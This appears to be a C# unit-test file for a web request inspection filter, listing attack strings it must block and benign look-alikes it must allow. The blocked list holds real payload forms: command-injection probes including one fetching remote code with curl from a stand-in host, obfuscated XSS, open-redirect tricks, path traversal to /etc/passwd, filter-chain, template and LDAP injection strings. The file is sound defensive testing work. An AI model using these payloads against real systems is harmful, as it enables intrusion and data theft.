using Analytics.Inspection;
using Analytics.Sidecar.Inspection;
using Analytics.Inspection.Normalization;
using Microsoft.AspNetCore.Http;

namespace Analytics.Sidecar.Tests.Inspection;

/// <summary>
/// The grammar-based checks that close the development placements' gaps (932, 941, 943, XXE,
/// open redirect, LDAP): each attack in every place a client can put it, and the look-alikes
/// real APIs carry next to them.
/// </summary>
public sealed class GeneralisedDetectorTests
{
    public static TheoryData<string, string> Attacks => new()
    {
        // 932: command lines in their probe forms, Windows extensions, '+' spaces, escaped line breaks.
        { "ping.exe -n 31 127.0.0.1", "cmdi-chained-command" },
        { "id;", "cmdi-chained-command" },
        { "sleep 10", "cmdi-chained-command" },
        { "which perl", "cmdi-chained-command" },
        { "net view", "cmdi-chained-command" },
        { "+|+dir+c:+|", "cmdi-chained-command" },
        { "$&&dir+c:/", "cmdi-chained-command" },
        { ";id\\n", "cmdi-chained-command" },
        { "\\necho INJECTX\\nexit\\n\\033[2Acurl https://x.example/rce.txt\\n", "cmdi-chained-command" },
        { "\n ping -i 30 127.0.0.1 \n", "cmdi-chained-command" },
        // 941: JavaScript escapes and dialog probes read as script.
        { "\\u006A\\u0061\\u0076\\u0061\\u0073\\u0063\\u0072\\u0069\\u0070\\u0074\\u003aalert(1)", "xss-script-uri" },
        { "\\x6A\\x61\\x76\\x61\\x73\\x63\\x72\\x69\\x70\\x74\\x3aalert(1)", "xss-script-uri" },
        { "\\152\\141\\166\\141\\163\\143\\162\\151\\160\\164\\072alert(1)", "xss-script-uri" },
        { "ja\\nva\\tscript\\r:alert(1)", "xss-script-uri" },
        { "\\j\\av\\a\\s\\cr\\i\\pt\\:\\a\\l\\ert\\(1\\)", "xss-script-uri" },
        { "top['al\\145rt'](1)", "xss-dialog-probe" },
        { "alert(2)", "xss-dialog-probe" },
        { "alert&lpar;1&rpar;", "xss-dialog-probe" },
        { "a=alert,a(1)", "xss-dialog-probe" },
        { "[1].find(alert)", "xss-dialog-probe" },
        { "prompt(document.domain)", "xss-dialog-probe" },
        { "onload='x' \\\" onload=\\\"x\\\"", "xss-attribute-breakout" },
        { "<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>", "xss-active-tag" },
        // Open redirect: what a naive URL check and a browser read differently.
        { "https:evil.example", "redirect-parser-confusion" },
        { "http://evil.example\\www.good.example", "redirect-parser-confusion" },
        { "http://evil.example:80?@www.good.example/", "redirect-parser-confusion" },
        { "http://evil.example:80#@www.good.example/", "redirect-parser-confusion" },
        { "http://evil.example&www.good.example", "redirect-parser-confusion" },
        { "https://\t/www.good.example@evil.example", "redirect-parser-confusion" },
        { "/?url=//evil.example&next=//evil.example", "redirect-nested" },
        { "/redirect?url=/\\/evil.example", "redirect-nested" },
        { "<>//evil.example", "redirect-scheme-relative" },
        { "//evil\u3002example", "redirect-scheme-relative" },
        { "////\\;@evil.example", "redirect-scheme-relative" },
        // XXE and XPath.
        { "&foo;", "xxe-entity-reference" },
        { "%payload;", "xxe-entity-reference" },
        { "count(/child::node())", "xxe-xpath-query" },
        // LDAP: a run of filter metacharacters.
        { "*()|&'", "ldap-filter-injection" },
        // 934: template expressions that evaluate, in Ruby, Razor and Smarty delimiters too.
        { "#{3*3}", "ssti-expression" },
        { "#{ 7 * 7 }", "ssti-expression" },
        { "@(1+2)", "ssti-expression" },
        { "{$smarty.version}", "ssti-expression" },
        { "{{ request }}", "ssti-expression" },
        // 943: a session id in a URL, wherever it is put.
        { "http://shop.example/index.php?PHPSESSID=attackerchosen", "session-id-in-value" },
        // 930 (third pass): separators spelled without a separator, PHP filter-chain names, more system files and roots.
        { "0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fissue", "traversal-dot-dot-repeated" },
        { "%c0%ee%c0%ee0x2fetc0x2fissue", "traversal-dot-dot-repeated" },
        { "..2f..2f..2f..2fetc2fpasswd", "traversal-dot-dot-repeated" },
        { "Li4vLi4vLi4vLi4vZXRjL3Bhc3N3ZA==", "traversal-dot-dot-repeated" },
        { "convert.iconv.IBM273.ES", "lfi-stream-wrapper" },
        { "convert.base64-encode|convert.iconv.UTF8.UTF7", "lfi-stream-wrapper" },
        { "/.rhosts", "lfi-sensitive-file" },
        { "/var/adm/messages.2", "lfi-system-path" },
        { "\\xampp\\MercuryMail\\mercury.ini", "lfi-system-path" },
        // 941 (third pass): '<' as a padded or unterminated numeric character reference.
        { "&#0060;", "xss-entity-evasion" },
        { "&#x0003C;", "xss-entity-evasion" },
        { "&#X003c", "xss-entity-evasion" },
    };

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Attack_is_blocked_as_a_query_value(string payload, string rule)
    {
        var verdict = Inspect.Param(payload);
        Assert.Contains(rule, verdict.Rules);
        Assert.True(verdict.Blocks(), $"{payload}: {verdict.Score}");
    }

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Attack_is_blocked_in_every_place(string payload, string rule)
    {
        _ = rule;
        Inspect.AssertBlockedIn(payload, null, "query-name", "header", "cookie-value", "json-key", "json-value", "xml-attribute");
    }

    [Theory]
    // Prose and code that mention what the rules look for.
    [InlineData("Our alert (1) fires when the queue is full")]
    [InlineData("if (confirm(\"Delete this item?\")) { remove(id); }")]
    [InlineData("Use alert() to show a message box")]
    [InlineData("prompt (2): describe the image")]
    [InlineData("sleep 8 hours a night")]
    [InlineData("which perl version do you need")]
    [InlineData("net 30")]
    [InlineData("Net 30 payment terms")]
    [InlineData("def handler(event, context):\n    return {\"statusCode\": 200}")]
    [InlineData("Dear team,\nprint the report\nset the date\nreturn it by Friday")]
    [InlineData("cat; dog; bird")]
    [InlineData("D:\\work\\new\\net\\report.txt")]
    [InlineData("D:\\Projects\\app\\src\\main.cs")]
    [InlineData("C:\\Users\\alice\\Documents\\report-2024.docx")]
    [InlineData("\\\\fileserver\\shared\\invoices\\march.pdf")]
    // URLs that APIs carry: a redirect_uri to a site, query strings, lists, prose.
    [InlineData("https://app.example.com/callback")]
    [InlineData("https://app.example.com/cb?return=/home&state=xyz")]
    [InlineData("https://example.com?utm_source=mail")]
    [InlineData("https://example.com/?email=alice@example.com")]
    [InlineData("https://a.example.com,https://b.example.com")]
    [InlineData("Visit https://example.com today (or https://example.org).")]
    [InlineData("/login?next=/dashboard&tab=2")]
    [InlineData("/search?q=//comment")]
    // Entities and markup that are text.
    [InlineData("Fish &amp; chips &eacute;t&eacute; &nbsp;")]
    [InlineData("50% off; today only")]
    [InlineData("AT&T; Procter & Gamble")]
    [InlineData("The count(items) function returns a number")]
    [InlineData("<order><item id=\"1\"/></order>")]
    // Template placeholders and arithmetic in text.
    [InlineData("Dear {{ customer.first_name }}, your {$product} ships in 2-3 days")]
    [InlineData("Total: {{ total }} for 2 + 2 items")]
    [InlineData("Ask @(alice) about 1/2 of the budget")]
    // Look-alikes of the third pass: entities an encoder writes, hex and ranges in text, filter words in prose, base64.
    [InlineData("Tom&#039;s kitchen")]
    [InlineData("a &#60; b")]
    [InlineData("mask = 0x2f; the slash is 0x2F")]
    [InlineData("pages 1..2 and 3..5, versions 2.0..2.1")]
    [InlineData("Convert the iconv output to UTF-8; the string rot13 is a toy cipher")]
    [InlineData("SGVsbG8gd29ybGQsIHRoaXMgaXMgYmFzZTY0IHRleHQ=")]
    [InlineData("The archive lives on https://xampp.example.org/var/adm/readme")]
    // LDAP-looking names and wildcards.
    [InlineData("cn")]
    [InlineData("Jane Doe (cn=jane)")]
    [InlineData("admin*")]
    [InlineData("5 * (3 + 2)")]
    [InlineData(":-) | :-(")]
    public void Lookalike_is_allowed(string value)
    {
        var verdict = Inspect.Param(value);
        Assert.False(verdict.Blocks(), $"{value}: {verdict.Score} ({string.Join(", ", verdict.Rules)})");
        var json = Inspect.Json("{\"note\":" + System.Text.Json.JsonSerializer.Serialize(value) + "}");
        Assert.False(json.Blocks(), $"json {value}: {json.Score} ({string.Join(", ", json.Rules)})");
    }

    [Fact]
    public void Xml_document_without_a_dtd_is_allowed()
    {
        var verdict = Inspect.Body("<?xml version=\"1.0\"?><order id=\"7\"><note>Fish &amp; chips</note><ship to=\"Main St &amp; 5th\"/></order>", "application/xml");
        Assert.False(verdict.Blocks(), string.Join(", ", verdict.Rules));
    }

    [Fact]
    public void Xml_document_referencing_an_undeclared_entity_is_blocked()
    {
        var verdict = Inspect.Body("<change-log><text>&systemEntity;</text></change-log>", "application/xml");
        Assert.True(verdict.Blocks(), string.Join(", ", verdict.Rules));
    }

    [Fact]
    public void Session_id_in_an_application_header_is_blocked_but_not_in_referer()
    {
        Assert.True(Inspect.Headers(new HeaderDictionary { ["X-Return-To"] = "/login;jsessionid=ABCDEF0123456789" }).Blocks());
        Assert.DoesNotContain("session-id-in-value", Inspect.Headers(new HeaderDictionary { ["Referer"] = "https://shop.example/cart;jsessionid=ABCDEF0123456789" }).Rules);
    }

    [Theory]
    [InlineData(".htaccess")]
    [InlineData("..0x5c..0x5cboot.ini")]
    [InlineData("aced0005737200116a6176612e7574696c2e48617368536574")]
    [InlineData("ipconfig")]
    [InlineData("WHOAMI")]
    public void Plain_token_cookie_name_with_a_dot_or_a_blob_is_scanned(string name) =>
        Assert.True(Inspect.Headers(new HeaderDictionary { ["Cookie"] = "theme=dark; " + name + "=1" }).Blocks(), name);

    [Fact]
    public void Ordinary_cookie_names_get_no_finding() =>
        Assert.Empty(Inspect.Headers(new HeaderDictionary { ["Cookie"] = "_ga=GA1.2.3.4; _ga_ABC123XYZ=GS1.1; .AspNetCore.Antiforgery.x1Yz=CfDJ8abc; XSRF-TOKEN=abc; session_id=42; uname=alice" }).Rules);

    [Theory]
    // The demo traffic's benign clients (src/Analyzer/Traffic/TrafficPlanner.cs) and its quoted search.
    [InlineData("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36 Edg/131.0")]
    [InlineData("Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15")]
    [InlineData("ShopApp/4.1.0 (Android 13; SM-S911B)")]
    [InlineData("Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) Mobile/15E148")]
    public void Demo_benign_client_gets_no_finding(string agent)
    {
        var verdict = Inspect.Run(new InspectionInput("GET", "/api/products", "q=o%27brien&page=2", new HeaderDictionary { ["User-Agent"] = agent, ["Accept"] = "application/json" },
            ReadOnlyMemory<byte>.Empty, null, false));
        Assert.Empty(verdict.Rules);
    }

    [Theory]
    [InlineData("\\x6a\\u0061\\u{76}a\\163cript\\:", "javascript:")]
    [InlineData("a\\nb\\tc", "a\nb\tc")]
    [InlineData("plain text", "plain text")]
    [InlineData("trailing\\", "trailing\\")]
    [InlineData("\\u{D800}x", "u{D800}x")]
    public void Js_escapes_decode_as_script_reads_them(string value, string expected) =>
        Assert.Equal(expected, JsEscapeDecoder.Decode(value));
}
